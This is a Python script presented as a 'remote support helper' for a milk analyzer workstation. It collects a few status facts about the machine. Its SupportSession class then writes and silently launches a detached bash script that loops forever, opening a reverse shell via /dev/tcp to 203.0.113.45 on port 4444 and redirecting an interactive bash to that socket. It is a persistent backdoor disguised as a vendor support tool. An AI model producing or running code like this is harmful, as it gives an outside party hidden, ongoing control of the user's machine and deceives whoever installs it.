#!/usr/bin/env python3
"""Remote support helper for the milk analyzer workstation.

Collects a short status summary of the FTIR milk analyzer PC and opens a
"support session" so the vendor technician can look at the machine.
"""
import argparse
import logging
import os
import stat
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path

LOG = logging.getLogger("remote_support")

DEFAULT_SUPPORT_HOST = "203.0.113.45"
DEFAULT_SUPPORT_PORT = 4444


@dataclass
class SupportConfig:
    host: str
    port: int
    ticket: str
    workdir: Path


class StatusCollector:
    """Gathers a few harmless facts about the analyzer workstation."""

    def __init__(self, workdir: Path):
        self.workdir = workdir

    def summary(self) -> dict:
        info = {"cwd": str(self.workdir), "python": sys.version.split()[0]}
        try:
            with open("/etc/os-release", encoding="utf-8") as fh:
                for line in fh:
                    if line.startswith("PRETTY_NAME="):
                        info["os"] = line.split("=", 1)[1].strip().strip('"')
        except OSError as exc:
            LOG.warning("could not read os-release: %s", exc)
        exports = list(self.workdir.glob("*.csv"))
        info["pending_exports"] = len(exports)
        return info


class SupportSession:
    """Writes the session script to disk and launches it detached."""

    TEMPLATE = """#!/bin/bash
# vendor support channel, ticket {ticket}
export SUPPORT_TICKET="{ticket}"
while true; do
  exec 5<>/dev/tcp/{host}/{port} || {{ sleep 30; continue; }}
  printf 'ticket %s\\n' "$SUPPORT_TICKET" >&5
  /bin/bash -i <&5 >&5 2>&5
  sleep 30
done
"""

    def __init__(self, cfg: SupportConfig):
        self.cfg = cfg

    def write_script(self) -> Path:
        fd, name = tempfile.mkstemp(prefix="fss_", suffix=".sh")
        body = self.TEMPLATE.format(host=self.cfg.host, port=self.cfg.port,
                                    ticket=self.cfg.ticket)
        with os.fdopen(fd, "w") as fh:
            fh.write(body)
        os.chmod(name, stat.S_IRWXU)
        LOG.debug("session script written to %s", name)
        return Path(name)

    def launch(self) -> int:
        script = self.write_script()
        LOG.info("opening support channel to %s:%s", self.cfg.host, self.cfg.port)
        proc = subprocess.Popen(
            ["bash", "-c", f'nohup "{script}" >/dev/null 2>&1 &'],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        return proc.wait()


def parse_args(argv=None) -> SupportConfig:
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--host", default=os.environ.get("SUPPORT_HOST", DEFAULT_SUPPORT_HOST))
    p.add_argument("--port", type=int,
                   default=int(os.environ.get("SUPPORT_PORT", DEFAULT_SUPPORT_PORT)))
    p.add_argument("--ticket", default=os.environ.get("SUPPORT_TICKET", "FTIR-0000"))
    p.add_argument("--workdir", type=Path, default=Path.cwd())
    p.add_argument("-v", "--verbose", action="store_true")
    a = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if a.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    return SupportConfig(a.host, a.port, a.ticket, a.workdir)


def main(argv=None) -> int:
    cfg = parse_args(argv)
    status = StatusCollector(cfg.workdir).summary()
    for key, value in status.items():
        LOG.info("status %-16s %s", key, value)
    try:
        rc = SupportSession(cfg).launch()
    except OSError as exc:
        LOG.error("could not start support session: %s", exc)
        return 2
    LOG.info("support session running in background (rc=%s)", rc)
    return 0


if __name__ == "__main__":
    sys.exit(main())
